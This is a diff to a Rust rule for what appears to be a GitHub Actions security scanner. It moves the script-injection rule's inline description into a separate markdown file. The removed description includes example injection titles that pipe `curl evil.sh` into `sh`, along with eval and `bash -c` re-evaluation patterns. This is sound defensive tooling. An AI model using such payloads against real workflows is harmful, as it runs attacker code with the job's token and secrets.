@@ -16,31 +16,7 @@ pub const META: RuleMeta = RuleMeta {
     title: "Script injection: attacker-controlled expression expanded into a shell script",
     default_severity: Severity::High,
     default_confidence: Confidence::High,
-    description: "GitHub expands `${{ … }}` expressions into a `run:` script *before* the shell \
-        sees it, so text from an issue title, a pull request body, a branch name or a commit \
-        message becomes shell code: a title like `a\"; curl evil.sh | sh; \"` or \
-        `$(curl evil.sh | sh)` runs with the job's token and secrets. This applies to \
-        workflow steps and to the steps of composite actions.\n\n\
-        Quoting does not help (the attacker closes the quote), and neither does `echo`: \
-        `echo \"${{ github.event.issue.title }}\"` runs any `$(…)` in the title. So echo, \
-        printf and quoted uses keep the full severity; only comparisons and \
-        `contains`/`startsWith`/`endsWith` results (booleans) are not reported. \
-        Indirection through an environment variable (`env: TITLE: ${{ … }}` then \
-        `\"$TITLE\"`) is safe and not reported: the shell expands the variable as data. It \
-        becomes code again only if the script evaluates it a second time — `eval \"$TITLE\"`, \
-        `bash -c \"echo $TITLE\"`, `source <(echo \"$TITLE\")`, `` `$TITLE` `` — and that is \
-        reported at the reference, with the `env:` entry as a related location.\n\n\
-        Severity: High for text anyone can write (issue, pull request, comment, review, \
-        discussion and wiki fields, branch names, commit messages and authors, \
-        `toJSON(github.event)`); Medium for `inputs.*`, `github.event.inputs.*` and \
-        `client_payload`, which only whoever can trigger the workflow (or a calling \
-        workflow that forwards untrusted data) controls — boolean, number and choice inputs \
-        are not reported. Confidence is Low when none of the workflow's triggers fills the \
-        context (for example an issue title in a `push`-only workflow).\n\n\
-        Across files: attacker-controlled text passed with `with:` to a local composite \
-        action or local reusable workflow in the scan and expanded there as \
-        `${{ inputs.x }}` is reported (High) at the expansion, with the calling `uses:` as \
-        a related location.",
+    description: include_str!("fg002_script_injection.md"),
     remediation: "Pass the value through an environment variable and quote it in the script:\n\n\
         ```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```",
     help_uri: "",
